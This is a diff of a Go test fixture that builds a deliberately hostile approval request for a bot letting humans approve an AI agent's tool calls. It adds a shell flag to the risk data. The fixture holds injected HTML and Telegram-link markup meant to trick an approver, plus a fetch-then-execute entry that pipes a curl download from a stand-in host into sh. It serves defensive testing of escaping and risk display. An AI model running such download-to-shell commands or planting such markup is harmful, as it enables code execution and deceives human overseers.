@@ -39,7 +39,7 @@ func hostileQuestion() approverbot.Question {
 		V: 1, Type: "approval_needed", Team: "default",
 		Request: messages.Request{RequestID: "r1", SessionID: "s1", AgentID: "a1", Tool: "bash<i>", Arguments: args,
 			Description: `<a href="tg://user?id=1">approve me</a> & go`},
-		Risk: messages.Risk{Tier: "exec", Rule: "bash(curl *)", Reason: "fetch-then-execute <script>",
+		Risk: messages.Risk{Shell: true, Tier: "exec", Rule: "bash(curl *)", Reason: "fetch-then-execute <script>",
 			SafetyOverride: "pipes a download into <sh>",
 			Subcommands: []messages.Verdict{
 				{Command: "curl https://x.example/i.sh", Action: "ask", Rule: "bash(curl *)"},
